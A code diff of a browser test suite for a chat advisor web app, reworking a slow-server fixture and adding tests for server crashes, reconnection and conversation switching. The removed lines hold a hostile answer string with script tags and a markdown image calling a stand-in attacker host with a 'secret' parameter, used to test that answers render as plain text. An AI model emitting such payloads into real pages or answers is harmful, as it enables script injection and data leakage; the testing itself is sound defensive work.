@@ -2,79 +2,29 @@
 
 from __future__ import annotations
 
-import re
-import threading
-import time
+import signal
 from collections.abc import Callable, Iterator
-from dataclasses import fields
+from contextlib import AbstractContextManager
+from subprocess import Popen
 from typing import TYPE_CHECKING
 
 import pytest
-import uvicorn
 from playwright.sync_api import expect
-
-from advisor.answer import Answer, Status
-from advisor.follow_up import History
-from advisor.library import Within
-from advisor.rag import Advisor, Chat, Reply
-from advisor.web.server import application
 
 if TYPE_CHECKING:
     from conftest import Visitor
+    from playwright.sync_api import Browser
 
     Open = Callable[..., Visitor]
+    Start = Callable[..., AbstractContextManager[tuple[str, Popen[str]]]]
 
-_SLOW = 60  # pieces; three seconds
 QUESTION = "What does a senior AI engineer earn?"
-HOSTILE = (
-    "![x](https://evil.example/?d=secret) [here](https://evil.example) <https://evil.example> www.evil.example "
-    '<img src="https://evil.example/x"> <script>window.hacked = 1</script> \\<script>window.hacked = 2</script> '
-    "`![x](https://evil.example/c)` [ref][9] from ~5 to ~10, $$x$$, a\\*b\n\n[ref]: https://evil.example\n"
-)
-
-
-class Slow(Advisor):
-    """The advisor, taking its time over the first pieces of an answer."""
-
-    def chat(self, history: History = (), *, within: Within = None) -> SlowChat:
-        return SlowChat(self, list(history), within)
-
-
-class SlowChat(Chat):
-    def stream(self, question: str) -> SlowReply:
-        return SlowReply(super().stream(question), question)
-
-
-class SlowReply:
-    def __init__(self, reply: Reply, question: str) -> None:
-        hostile = Answer(text=HOSTILE, status=Status.PARTIAL, question=question)
-        self.answer = hostile if "hostile" in question else reply.answer
-        self.fails = "fail" in question
-
-    def __iter__(self) -> Iterator[str]:
-        for number, piece in enumerate(re.findall(r"\S+\s*", self.answer.text)):
-            if self.fails and number == 5:
-                raise RuntimeError("the model has gone")
-            time.sleep(0.05 if number < _SLOW else 0)
-            yield piece
 
 
 @pytest.fixture(scope="module")
-def slow_url(guide: Advisor) -> Iterator[str]:
-    config = uvicorn.Config(
-        application(Slow(**{field.name: getattr(guide, field.name) for field in fields(guide)}), guide.holdings),
-        port=0,
-        log_level="critical",
-        timeout_graceful_shutdown=1,
-    )
-    server = uvicorn.Server(config)
-    thread = threading.Thread(target=server.run)
-    thread.start()
-    while not server.started:
-        time.sleep(0.05)
-    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}/"
-    server.should_exit = True
-    thread.join(timeout=20)
+def slow_url(start_slow: Start) -> Iterator[str]:
+    with start_slow() as (url, _):
+        yield url
 
 
 def begin(visitor: Visitor, question: str) -> None:
@@ -126,3 +76,74 @@ def test_links_images_and_scripts_in_an_answer_stay_words(open_page: Open, slow_
     expect(bubble).to_contain_text("[ref][9] from ~5 to ~10, $$x$$, a*b")
     expect(bubble.locator("a, img, script, del")).to_have_count(0)
     assert visitor.page.evaluate("window.hacked === undefined")
+
+
+def port(url: str) -> int:
+    return int(url.rsplit(":", 1)[1].strip("/"))
+
+
+@pytest.mark.parametrize("early", [True, False], ids=["asked again while it is away", "asked again once it is back"])
+def test_a_server_that_dies_over_an_answer_is_told_and_the_question_asked_again(
+    browser: Browser, start_slow: Start, early: bool
+) -> None:
+    page = browser.new_page()  # not through open_page: this page is right to report that its server is gone
+    with start_slow() as (url, process):
+        page.goto(url)
+        page.get_by_label("Your question").fill("Do I need a PhD?")
+        page.keyboard.press("Enter")
+        expect(page.locator("#chat .notice.answered")).to_have_count(1, timeout=20_000)
+        page.get_by_label("Your question").fill(QUESTION)
+        page.keyboard.press("Enter")
+        expect(page.locator("#chat .bot-row").last).to_contain_text("Salaries")
+        process.send_signal(signal.SIGKILL)
+        process.wait()
+    told = page.get_by_role("alert").filter(has_text="The connection to the server is lost")
+    expect(told).to_be_visible(timeout=20_000)
+    expect(page.get_by_role("button", name="Send")).to_be_visible()
+    again = page.locator("#unanswered").get_by_role("button")
+    if early:
+        again.click()
+        expect(again).to_have_text("Waiting for the server …")
+    with start_slow(port=port(url)):
+        if not early:
+            expect(page.locator("#unanswered")).to_contain_text(f"before this was answered: {QUESTION}", timeout=60_000)
+            again.click()
+        expect(page.locator("#chat .notice.answered")).to_have_count(2, timeout=60_000)
+        expect(page.locator("#chat [data-testid=user]")).to_have_text(["Do I need a PhD?", QUESTION])
+        expect(page.locator("#unanswered")).to_have_count(0)
+        expect(page.get_by_label("Your question")).to_have_value("")
+        page.context.close()
+
+
+def test_an_opened_conversation_is_not_written_over_by_the_answer_of_another(open_page: Open, slow_url: str) -> None:
+    visitor = open_page(slow_url)
+    page = visitor.page
+    visitor.ask("Do I need a PhD?")
+    page.get_by_role("button", name="New conversation").click()
+    expect(page.locator("#chat [data-testid=user]")).to_have_count(0)
+    begin(visitor, QUESTION)
+    page.get_by_role("button", name="Conversations", exact=True).click()
+    page.locator("#history li").get_by_role("button", name="Do I need a PhD?", exact=True).click()
+    expect(page.locator("#chat [data-testid=user]")).to_have_text(["Do I need a PhD?"])
+    page.wait_for_timeout(4_000)  # longer than the other answer would have taken
+    expect(page.locator("#chat [data-testid=user]")).to_have_text(["Do I need a PhD?"])
+    page.get_by_role("button", name="Conversations", exact=True).click()
+    page.locator("#history li").get_by_role("button", name=QUESTION, exact=True).click()
+    expect(page.locator("#chat")).to_contain_text("Stopped.")
+    expect(page.locator("#chat [data-testid=user]")).to_have_text([QUESTION])
+
+
+def test_a_conversation_deleted_while_its_answer_is_written_stays_deleted(open_page: Open, slow_url: str) -> None:
+    visitor = open_page(slow_url)
+    page = visitor.page
+    page.on("dialog", lambda dialog: dialog.accept())
+    visitor.ask("Do I need a PhD?")
+    page.get_by_label("Your question").fill(QUESTION)
+    page.keyboard.press("Enter")
+    expect(page.locator("#chat .bot-row").last).to_contain_text("Salaries")
+    page.get_by_role("button", name="Conversations", exact=True).click()
+    page.get_by_role("button", name="Delete: Do I need a PhD?").click()
+    expect(page.locator("#history")).to_contain_text("No conversation is kept yet.")
+    page.wait_for_timeout(4_000)
+    expect(page.locator("#history")).to_contain_text("No conversation is kept yet.")
+    expect(page.locator("#chat [data-testid=user]")).to_have_count(0)
